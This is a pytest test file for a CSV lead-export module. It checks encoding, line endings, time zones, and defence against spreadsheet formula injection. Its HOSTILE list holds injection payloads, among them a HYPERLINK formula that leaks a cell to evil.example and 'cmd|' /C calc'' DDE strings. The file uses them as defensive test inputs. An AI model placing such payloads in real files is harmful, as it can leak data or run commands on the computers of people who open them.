"""The table of leads opens in any spreadsheet, in any language, and runs nothing in one."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from bot.config import Config, Rep, Team
from bot.desk.export import as_csv, harmless
from bot.desk.report import Recorded
from bot.model import Fact, Owner
from tests.storage.making import a_card
from tests.varied import varied

CONFIG = Config(
    teams={"seoul": Team(name="seoul", zone="Asia/Seoul"), "inbound": Team(name="inbound", zone="America/New_York")},
    reps={"serin": Rep(id="serin", name="오세린")},
)
AT = datetime(2026, 11, 22, 20, 30, tzinfo=UTC)


def a_record(**changed: object) -> Recorded:
    plain = Recorded(
        conversation="c1",
        platform="web",
        flow="b2b_saas",
        team="seoul",
        owner=Owner.REP,
        rep="serin",
        offered_to="",
        posted_at=AT,
        updated_at=AT,
        close_reason="",
        card=a_card(),
    )
    return varied(plain, **changed)


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.encode().decode("utf-8-sig"), newline="")))


def test_what_is_written_is_what_is_read_in_korean_and_japanese() -> None:
    title = '佐藤, "太郎"\n髙﨑'
    card = a_card(title=title, facts=(Fact(field="need", value="받은편지함", shown="공유 받은편지함; 도입"),))
    text = as_csv([a_record(card=card, owner=Owner.CLOSED, close_reason="lost/price: 예산 없음")], CONFIG)
    assert text.encode().startswith(b"\xef\xbb\xbf")
    (row,) = read(text)
    assert (row["title"], row["need"], row["rep"]) == (title, "공유 받은편지함; 도입", "오세린")
    assert (row["result"], row["reason"], row["words"], row["owner"]) == ("lost", "price", "예산 없음", "closed")


def test_lines_end_with_cr_lf() -> None:
    text = as_csv([a_record(), a_record(conversation="c2")], CONFIG)
    assert text.count("\r\n") == 3
    assert "\n" not in text.replace("\r\n", "")


def test_times_stand_in_the_teams_own_zone() -> None:
    seoul, york = read(as_csv([a_record(), a_record(team="inbound")], CONFIG))
    assert (seoul["posted"], seoul["zone"]) == ("2026-11-23 05:30", "Asia/Seoul")
    assert (york["posted"], york["zone"]) == ("2026-11-22 15:30", "America/New_York")


HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1\uff0b1",  # what a Japanese keyboard writes, and a Japanese Excel takes
    "\uff0b82",
    "\uff201",
    "\0=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula_wherever_it_came_from(text: str) -> None:
    facts = (Fact(field="need", value=text, shown=text),)
    card = a_card(title=text, page=text, referrer=text, campaign=text, region=text, language=text, facts=facts)
    hostile = a_record(card=card, team=text, platform=text, owner=Owner.CLOSED, close_reason=f"won:{text}", rep=text)
    (row,) = read(as_csv([hostile], CONFIG))
    for name, cell in row.items():
        assert not cell.strip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")), name
        assert not cell.startswith(("\t", "\r", "\n")), name
    assert row["title"] == "'" + text.replace("\0", "")


def test_plain_cells_are_left_as_they_are() -> None:
    assert [harmless(text) for text in ("", "김민수", "80명", "a=b", "jo@x.example")] == ["", "김민수", "80명", "a=b", "jo@x.example"]


def test_each_field_of_any_lead_has_a_column_and_no_lead_still_has_headings() -> None:
    other = replace(a_card(), facts=(Fact(field="tickets", value={"min": 5, "max": 5}, shown="5"),))
    rows = read(as_csv([a_record(), a_record(card=other)], CONFIG))
    assert [(row["company_size"], row["budget"], row["tickets"]) for row in rows] == [("80명", "", ""), ("", "", "5")]
    assert as_csv([], CONFIG).startswith("\ufeffid,posted,")


@pytest.mark.parametrize("before", ["\u200b", "\ufeff", "\u2060", "\u202e", "\x01", "\x7f", "\x1b", "\u200b \u00a0", "\u3000\u200d"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "﹦", "﹢", "﹣", "﹫"])
def test_what_cannot_be_seen_hides_no_formula(before: str, sign: str) -> None:
    assert harmless(f"{before}{sign}1+1").startswith("'")


@pytest.mark.parametrize("text", ["", "80명", "佐藤", "we are 5 - 10", "a=b", "1+1", "\u200b김민지", "'=1"])
def test_a_cell_that_begins_with_something_else_is_left_as_it_is(text: str) -> None:
    assert harmless(text) == text
